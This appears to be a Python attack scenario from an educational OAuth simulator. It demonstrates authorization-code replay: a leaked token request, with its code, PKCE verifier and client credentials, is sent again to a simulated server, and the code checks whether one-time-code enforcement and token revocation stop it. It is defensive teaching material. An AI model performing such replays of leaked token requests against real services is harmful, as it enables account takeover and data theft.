"""code-replay: a leaked authorization code is presented again after the client used it.
One-time codes, and revocation of the tokens already issued from the code, stop it
(RFC 6749 §4.1.2).

Alice logs in at the confidential web client as in happy-path. The client's token request
then leaks whole (a debug log, a TLS-terminating proxy that logs bodies: code, PKCE verifier
and the client's Basic credentials), and the attacker sends it again, byte for byte. With
the defence on, the server sees a code that was already used: invalid_grant, and it revokes
the tokens issued from that code, so alice's session at the client is cut off too (her next
page load gets 401 from the API). With it off, the replay is just another valid token
request: the attacker gets a second set of tokens and reads alice's profile.
"""

from __future__ import annotations

from sim import defences
from sim.attacker import Attacker
from sim.parties import ATTACKER, AUTHORIZATION_SERVER, CLIENT, RESOURCE_SERVER
from sim.scenarios.attack_common import AttackScenario, Mark, error_of
from sim.scenarios.base import ScenarioError, log_in_and_consent


class CodeReplay(AttackScenario):
    name = "code-replay"
    description = "A leaked code is redeemed again after the client used it (one-time codes)"
    defence = defences.ONE_TIME_CODE
    defence_text = (
        "A code can be redeemed once: a second attempt gets invalid_grant and revokes every "
        "token already issued from that code."
    )
    rfc = "RFC 6749 §4.1.2, §10.5; RFC 9700 §4.2.4"

    def attack(self, sim, flow: str, insecure: bool, attacker: Attacker):
        if sim.store is None:
            raise ScenarioError("code-replay needs tracing: the leaked request is read from it")
        victim = sim.user_agent(flow)
        home = log_in_and_consent(victim, victim.get(sim.client_url + "/login"))
        if "Tea party" not in home.text:
            raise ScenarioError("alice's login at the client did not succeed")
        leaked = _leaked_token_request(sim, flow)
        headers = {
            "Authorization": leaked["request_headers"].get("Authorization", ""),
            "Content-Type": "application/x-www-form-urlencoded",
        }
        replay = attacker.http.post(
            sim.authorization_server_url + "/token",
            data=leaked["request_body"].encode(),
            headers=headers,
            timeout=10,
        )
        api_user = None
        if replay.ok:
            profile = attacker.http.get(
                sim.resource_server_url + "/api/profile",
                headers={"Authorization": f"Bearer {replay.json()['access_token']}"},
                timeout=10,
            )
            api_user = profile.json().get("username") if profile.ok else None
        # Alice reloads the client's page: does her session still work?
        again = victim.get(sim.client_url + "/")
        evidence = {
            "replay_status": replay.status_code,
            "replay_error": error_of(replay) or None,
            "attacker_got_tokens": replay.ok and "access_token" in replay.text,
            "attacker_read_profile_of": api_user,
            "victim_session_still_works": "Tea party" in again.text,
            "victim_api_status_after": _last_api_status(sim, flow),
        }
        mark = Mark(
            ATTACKER,
            AUTHORIZATION_SERVER,
            "POST",
            "/token",
            self.marker(
                insecure,
                "one-time code: already used, so invalid_grant; the tokens issued from it "
                "are revoked",
                "one-time code: the used code was accepted again and issued a second set of tokens",
            ),
        )
        return evidence, bool(api_user), [mark]


def _leaked_token_request(sim, flow: str) -> dict:
    """The client's code redemption as a logging proxy would have kept it."""
    sim.store.wait_settled(flow)
    for record in sim.store.records(flow):
        if (
            record["from"] == CLIENT
            and record["to"] == AUTHORIZATION_SERVER
            and record["url"].endswith("/token")
            and "grant_type=authorization_code" in record["request_body"]
        ):
            return record
    raise ScenarioError("the client's token request is not in the trace")


def _last_api_status(sim, flow: str) -> int | None:
    sim.store.wait_settled(flow)
    calls = [
        r
        for r in sim.store.records(flow)
        if r["from"] == CLIENT and r["to"] == RESOURCE_SERVER and r["url"].endswith("/profile")
    ]
    return calls[-1]["status"] if calls else None


SCENARIOS = [CodeReplay()]
